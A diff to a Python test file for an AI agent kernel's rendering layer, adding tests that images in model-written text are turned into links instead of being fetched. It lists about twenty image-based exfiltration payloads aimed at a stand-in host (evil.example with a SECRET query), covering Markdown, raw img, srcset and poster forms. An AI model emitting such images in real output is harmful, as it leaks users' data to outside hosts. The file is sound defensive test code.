@@ -24,7 +24,7 @@ from shiro_kernel.events import Notice, TextDelta, ToolEnd, ToolProgress, ToolSt
 from shiro_kernel.transcript import ToolCallPart, ToolResultPart
 from shiro_kernel.ui import outputs
 from shiro_kernel.ui.render import TurnLog, entry_html, to_html, to_markdown, to_text
-from shiro_kernel.ui.sanitize import inert_markdown, md_to_html, plain_url
+from shiro_kernel.ui.sanitize import IMAGE_LINK, inert_markdown, md_to_html, plain_url
 from shiro_kernel.ui.widgets import TurnView
 
 LABEXTENSION = Path(__file__).resolve().parents[2] / "labextension"
@@ -276,7 +276,6 @@ ORDINARY = [
     "1. Install:\n\n   ```bash\n   pip install x<2\n   ```\n\n2. Done.",
     "~~~\n<html>\n~~~",
     "See [the docs](https://example.com/a?b=1), [mail](mailto:a@b.c), [here](#section), [file](data/x.csv).",
-    "![plot](https://example.com/p.png) and ![inline](data:image/png;base64,iVBOR)",
     "x < 3 and y <= 4, 2<3, a -> b, <3, ~~gone~~",
     "> a quote with `code`",
     "# Heading\n\nText with a \\* star and $x^2$ math.",
@@ -340,3 +339,124 @@ def test_an_outputs_plain_text_cannot_become_markup() -> None:
     assert '" onerror="' not in tag
     # the Markdown an approved display produced is kept as a cell output would show it
     assert outputs.to_markdown({"data": {"text/markdown": "<b>mine</b>"}}) == "<b>mine</b>"
+
+
+# -- images: nothing of the model's text is fetched without a click (issue 33, point 4) ---------------------
+
+EVIL = "https://evil.example/x.png?q=SECRET"
+#: images the model might write; drawn, each would fetch EVIL (or //evil.example) with no click, live and on
+#: every reopening: a channel out for whatever the model put in the URL
+IMAGES = [
+    f"![chart]({EVIL})",
+    f"![]({EVIL})",
+    f'![chart]({EVIL} "a title")',
+    f"![chart](<{EVIL}>)",
+    "![chart](//evil.example/x.png?q=SECRET)",
+    f"![chart][r]\n\n[r]: {EVIL}",
+    f"![chart]\n\n[chart]: {EVIL}",
+    f"![chart][]\n\n[chart]: {EVIL}",
+    f"![chart](data:image/png,x y)\n\n[chart]: {EVIL}",  # not an inline image: the reference is
+    f"[![badge]({EVIL})](https://example.com)",
+    f"![a ![b]({EVIL})]({EVIL})",
+    f"**![x]({EVIL})** and _![y]({EVIL})_",
+    f"- ![x]({EVIL})\n\n> ![y]({EVIL})",
+    f"| a | ![x]({EVIL}) |\n|---|---|\n| 1 | 2 |",
+    f"`a\nb` ![x]({EVIL}) `c`",  # a code span the per-line scan would pair on the second line only
+    f"$x$ ![x]({EVIL}) $y$",
+    f"x\\\\![x]({EVIL})",  # an escaped backslash, then an image
+    f'<img src="{EVIL}">',
+    f'<img src="x.png" srcset="{EVIL} 2x">',
+    f'<video poster="{EVIL}"></video>',
+]
+LOADING = {"src", "srcset", "poster", "background", "lowsrc", "dynsrc", "data", "imagesrcset"}
+
+
+class Fetches(HTMLParser):
+    """The URLs an HTML string makes a browser fetch as it is drawn (an image's, a poster's, a CSS url())."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.urls: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        for name, value in attrs:
+            if name in LOADING and value and not value.strip().lower().startswith("data:image/"):
+                self.urls.append(f"<{tag} {name}={value}>")
+            elif name == "style" and value and "url(" in value.lower():
+                self.urls.append(f"<{tag} style={value}>")
+
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.handle_starttag(tag, attrs)
+
+
+def fetches(rendered: str) -> list[str]:
+    parser = Fetches()
+    parser.feed(rendered)
+    parser.close()
+    return parser.urls
+
+
+def image_log(source: str) -> TurnLog:
+    """A turn with ``source`` as its answer, in a tool's arguments, a notice and the turn's error."""
+    log = TurnLog()
+    call = ToolCallPart("c1", "python", json.dumps({"code": f"x = 1  # {source}"}))
+    log.feed(ToolStart(call))
+    log.feed(ToolEnd(call, ToolResultPart("c1", "python", f"Error: {source}", is_error=True), 0.1))
+    log.feed(Notice(f"note {source}"))
+    log.feed(TextDelta(source))
+    log.feed(TurnEnd("error", Usage(), error=f"failed {source}"))
+    return log
+
+
+def test_no_image_of_the_model_text_is_fetched_in_any_kernel_rendering() -> None:
+    logs = [image_log(v) for v in IMAGES]
+    markdown = [to_markdown(log) for log in logs]
+    found: dict[str, list[str]] = {}
+    for vector, log, source, by_marked in zip(IMAGES, logs, markdown, marked(markdown)):
+        urls = fetches(by_marked) + fetches(mistune_raw(source)) + fetches(to_html(log))
+        view = TurnView()  # the live view, as the answer streams in
+        for event in (TextDelta(vector), Notice(vector), TurnEnd("error", Usage(), error=vector)):
+            view.feed(event)
+        urls += [u for w in (*view.entries.children, view.status) for u in fetches(w.value)]
+        if urls:
+            found[vector] = urls
+    record(
+        "security: images in the model's text fetched by the kernel's Markdown, HTML and live widgets",
+        4 * len(IMAGES),
+        len(found),
+        f"{len(IMAGES)} images (Markdown inline, reference, nested, in links, lists, tables, next to math, raw "
+        f"<img>, srcset, a video poster) in the answer, a tool's arguments, an error, a notice; rendered by "
+        f"marked and mistune (text/markdown), as text/html and in the widgets; {len(found)} fetched",
+    )
+    assert not found, found
+
+
+def test_the_checker_sees_the_images_it_guards_against() -> None:
+    """Rendered raw, the same texts do fetch (so a pass above means something)."""
+    raw = marked(IMAGES)
+    assert all(fetches(h) or fetches(mistune_raw(v)) for v, h in zip(IMAGES, raw)), [
+        v for v, h in zip(IMAGES, raw) if not (fetches(h) or fetches(mistune_raw(v)))
+    ]
+
+
+def test_an_image_becomes_a_link_to_it() -> None:
+    assert inert_markdown(f"See ![chart]({EVIL}).") == f"See [{IMAGE_LINK}chart]({EVIL})."
+    assert inert_markdown("![a][r]\n\n[r]: x.png") == f"[{IMAGE_LINK}a][r]\n\n[r]: x.png"
+    assert inert_markdown("Wow\\![not an image](x)") == "Wow\\![not an image](x)"  # escaped: text as it was
+    assert inert_markdown("```\n![in code](x.png)\n```") == "```\n![in code](x.png)\n```"
+    rendered = marked([inert_markdown(f"See ![chart]({EVIL}).")])[0]
+    assert rendered == f'<p>See <a href="{html.escape(EVIL)}">image: chart</a>.</p>\n'
+    assert md_to_html(f'![chart]({EVIL} "t")') == f'<p><a href="{html.escape(EVIL)}" title="t">image: chart</a></p>\n'
+    # inline image data loads nothing: the HTML still draws it
+    assert (
+        md_to_html("![i](data:image/png;base64,iVBOR)") == '<p><img src="data:image/png;base64,iVBOR" alt="i" /></p>\n'
+    )
+
+
+def test_images_the_approved_code_displayed_still_draw() -> None:
+    """What the user's approved call displayed keeps a cell output's trust: its Markdown's images draw."""
+    shown = {"data": {"text/markdown": "![plot](https://example.com/p.png)", "text/plain": "<Markdown>"}}
+    assert '<img src="https://example.com/p.png" alt="plot" />' in outputs.to_html(shown)
+    assert outputs.to_markdown(shown) == "![plot](https://example.com/p.png)"
+    figure = {"data": {"image/png": "iVBOR", "text/plain": "<Figure>"}}
+    assert '<img class="shiro-output" src="data:image/png;base64,iVBOR"' in outputs.to_html(figure)
